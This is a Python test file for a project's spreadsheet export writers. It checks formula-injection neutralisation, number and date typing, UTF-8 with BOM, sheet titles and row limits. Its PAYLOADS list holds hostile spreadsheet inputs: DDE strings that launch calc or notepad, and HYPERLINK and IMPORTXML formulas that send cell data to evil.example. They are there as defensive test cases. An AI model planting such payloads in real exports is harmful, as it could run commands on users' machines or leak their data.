"""The writers on plain rows: no cell a spreadsheet would run, numbers stay numbers, dates are
dates, and Excel reads the CSV's encoding and the workbook's layout as intended."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from guishu.exports import writers
from guishu.exports.cells import is_risky, neutralised
from guishu.exports.writers import Column, Sheet, TooManyRows, csv_chunks, write_xlsx

SHANGHAI = ZoneInfo("Asia/Shanghai")

# Formula (CSV) injection payloads: OWASP's, DDE, and the same behind blanks and controls.
PAYLOADS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
]
HARMLESS = ["Acme Tools Ltd", "华为技术有限公司", "li.wei@acme.com", "1+1=2", "#N/A", "a-b", ""]


def sheet(rows: list[list[object]], columns: int | None = None) -> Sheet:
    width = columns or max(len(row) for row in rows)
    return Sheet(
        name="Customers",
        slug="customers",
        columns=[Column(f"Column {i}", 10 + i) for i in range(width)],
        rows=iter(rows),
    )


def csv_text(rows: list[list[object]]) -> str:
    data = b"".join(csv_chunks(sheet(rows), SHANGHAI))
    return data.decode("utf-8")


def csv_rows(rows: list[list[object]]) -> list[list[str]]:
    text = csv_text(rows)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def xlsx_book(rows: list[list[object]], columns: int | None = None):  # type: ignore[no-untyped-def]
    target = io.BytesIO()
    write_xlsx(sheet(rows, columns), target, SHANGHAI)
    target.seek(0)
    return load_workbook(target)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_recognised_as_risky(payload: str):
    assert is_risky(payload)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text: str):
    assert neutralised(text) == text


def test_csv_cells_that_could_run_start_with_a_single_quote():
    body = csv_rows([[payload] for payload in PAYLOADS])[1:]
    assert [row[0] for row in body] == [f"'{payload}" for payload in PAYLOADS]


def test_csv_quotes_every_field_and_doubles_inner_quotes():
    """OWASP's own examples: the single quote sits inside the field's double quotes, so a
    quote or separator in the value cannot start a new cell."""
    text = csv_text([['=1+2";=1+2'], ["=1+2'\" ;,=1+2"]])
    lines = text[1:].split("\r\n")
    assert lines[1] == '"\'=1+2"";=1+2"'
    assert lines[2] == '"\'=1+2\'"" ;,=1+2"'


def test_xlsx_text_cells_are_never_formulas_and_risky_ones_carry_the_quote_prefix():
    book = xlsx_book([[payload] for payload in PAYLOADS])
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    for cell, payload in zip(cells, PAYLOADS, strict=True):
        assert cell.data_type == "s", payload
        assert cell.quotePrefix, payload
        # Shown exactly as typed; NUL, which XML cannot hold, becomes U+FFFD, and XML reads
        # a carriage return as a line feed.
        assert cell.value == payload.replace("\0", "\ufffd").replace("\r", "\n")


def test_xlsx_text_that_looks_like_an_error_value_stays_text():
    book = xlsx_book([["#N/A", "#DIV/0!", "1+1=2"]])
    cells = next(book.active.iter_rows(min_row=2))
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        ("#N/A", "s", False),
        ("#DIV/0!", "s", False),
        ("1+1=2", "s", False),
    ]


def test_xlsx_sheet_has_no_formula_anywhere_in_its_xml():
    import zipfile

    target = io.BytesIO()
    write_xlsx(sheet([[payload] for payload in PAYLOADS]), target, SHANGHAI)
    with zipfile.ZipFile(target) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert 'quotePrefix="1"' in zipfile.ZipFile(target).read("xl/styles.xml").decode()


def test_negative_numbers_stay_numbers_in_xlsx_and_csv():
    rows: list[list[object]] = [[-5, Decimal("-1250.50"), -0.25, "-5"]]
    cells = next(xlsx_book(rows).active.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in cells[:3]] == [
        (-5, "n"),
        (-1250.5, "n"),
        (-0.25, "n"),
    ]
    assert cells[1].number_format == "#,##0.00"
    # Text that merely looks like a number is text, and is neutralised like any text.
    assert (cells[3].value, cells[3].data_type, cells[3].quotePrefix) == ("-5", "s", True)
    assert csv_rows(rows)[1] == ["-5", "-1250.50", "-0.25", "'-5"]


def test_dates_are_real_dates_in_the_companys_time_zone():
    moment = datetime(2026, 1, 5, 2, 30, tzinfo=UTC)  # 10:30 in Shanghai
    rows: list[list[object]] = [[moment, date(2026, 2, 1), None]]
    cells = next(xlsx_book(rows).active.iter_rows(min_row=2))
    assert cells[0].is_date and cells[0].value == datetime(2026, 1, 5, 10, 30)
    assert cells[0].number_format == "yyyy-mm-dd hh:mm"
    assert cells[1].is_date and cells[1].value.date() == date(2026, 2, 1)
    assert cells[2].value is None
    assert csv_rows(rows)[1] == ["2026-01-05 10:30:00", "2026-02-01", ""]


def test_csv_is_utf8_with_a_bom_and_crlf_line_ends_for_excel():
    data = b"".join(csv_chunks(sheet([["华为", "a\nb"], ["Acme", "x"]]), SHANGHAI))
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8")
    assert text.count("\r\n") == 3  # header and two rows; the newline inside a cell stays
    assert '"a\nb"' in text
    assert csv_rows([["华为", "a\nb"]])[1] == ["华为", "a\nb"]


def test_csv_streams_in_chunks_and_reads_rows_only_as_it_goes():
    read: list[int] = []

    def rows():  # type: ignore[no-untyped-def]
        for n in range(1200):
            read.append(n)
            yield [n, f"row {n}"]

    chunks = csv_chunks(Sheet("Big", "big", [Column("n"), Column("text")], rows()), SHANGHAI)
    first = next(chunks)
    assert first.startswith(b"\xef\xbb\xbf") and read == []  # the header comes first
    second = next(chunks)
    assert len(read) == 500 and second.count(b"\r\n") == 500
    assert sum(chunk.count(b"\r\n") for chunk in chunks) == 700


def test_chinese_text_round_trips_through_both_formats():
    row: list[object] = ["华为技术有限公司", "深圳市南山区", "张伟（采购）", "😀 emoji"]
    assert csv_rows([row])[1] == row
    assert [c.value for c in next(xlsx_book([row]).active.iter_rows(min_row=2))] == row


def test_xlsx_header_is_bold_frozen_and_columns_have_widths():
    book = xlsx_book([["a", "b", "c"]])
    worksheet = book.active
    assert worksheet.title == "Customers"
    assert worksheet.freeze_panes == "A2"
    header = next(worksheet.iter_rows(max_row=1))
    assert [c.value for c in header] == ["Column 0", "Column 1", "Column 2"]
    assert all(c.font.b for c in header)
    assert [worksheet.column_dimensions[letter].width for letter in "ABC"] == [10, 11, 12]


def test_control_characters_xml_cannot_hold_do_not_break_the_workbook():
    cells = next(xlsx_book([["bell\x07 and\x1f unit"]]).active.iter_rows(min_row=2))
    assert cells[0].value == "bell\ufffd and\ufffd unit"


def test_sheet_titles_are_ones_excel_accepts():
    assert (
        writers.sheet_title("华为技术有限公司 [east]: orders/2026?")
        == "华为技术有限公司  east   orders 2026"
    )
    assert len(writers.sheet_title("x" * 80)) == 31
    assert writers.sheet_title("///") == "Sheet"


def test_more_rows_than_a_sheet_holds_are_refused_and_leave_no_temporary_file(
    monkeypatch: pytest.MonkeyPatch,
):
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    monkeypatch.setattr(writers, "MAX_XLSX_ROWS", 3)
    spooled = set(ALL_TEMP_FILES)
    with pytest.raises(TooManyRows):
        xlsx_book([["a"], ["b"], ["c"]], columns=1)
    assert set(ALL_TEMP_FILES) == spooled
    xlsx_book([["a"], ["b"]], columns=1)  # the header and two rows fit


def test_an_exported_csv_reads_back_as_the_text_it_marked():
    """Our importer undoes the quote our CSV export puts before a risky cell (and only that),
    so an exported list imports back unchanged."""
    from guishu.tabular import read_table

    texts = [p for p in PAYLOADS if "\0" not in p] + ["'quoted on purpose", "O'Brien"]
    data = b"".join(csv_chunks(sheet([[text] for text in texts]), SHANGHAI))
    table = read_table(io.BytesIO(data), filename="export.csv")
    read = [row[0] for row in table.rows]
    # csv keeps a lone \r or \n inside a quoted cell as typed; blanks around are the reader's.
    assert read == texts
